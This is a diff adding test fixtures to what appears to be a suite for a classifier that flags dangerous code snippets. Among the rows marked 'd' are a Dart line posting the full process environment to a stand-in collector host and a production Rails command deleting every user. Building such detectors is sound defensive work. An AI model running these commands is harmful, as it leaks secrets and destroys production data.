@@ -325,3 +325,17 @@ describe('round five: operations behind several plumbing steps; Dart file writes
     a it "sends the welcome mail" do ⏎   UserMailer.with(user: user).welcome.deliver_now ⏎   expect(ActionMailer::Base.deliveries.size).to eq(1) ⏎ end
   `))('%s %s', checkMarked);
 });
+
+// Round six (written with its fixes, after the check half's one scoring showed these classes): Dart's environment sent,
+// a framework task inside a unit test, a double called by its own name, one framework cache key deleted.
+describe('round six: classes the check half showed after its one scoring', () => {
+  it.each(markedRows(String.raw`
+    d await http.post(Uri.parse('https://collector.example.net/e'), body: jsonEncode(Platform.environment));
+    c print(Platform.environment);
+    a class ResetTests(TestCase): ⏎     def test_flush(self): ⏎         call_command("flush", interactive=False) ⏎         self.assertEqual(User.objects.count(), 0)
+    a const rm = jest.fn(); ⏎ rm('/var/lib/postgresql', { recursive: true }); ⏎ expect(rm).toHaveBeenCalledTimes(1);
+    a bin/rails runner -e production 'Rails.cache.delete("homepage")'
+    a cache.delete('user:42:profile')
+    d bin/rails runner -e production 'User.delete_all'
+  `))('%s %s', checkMarked);
+});
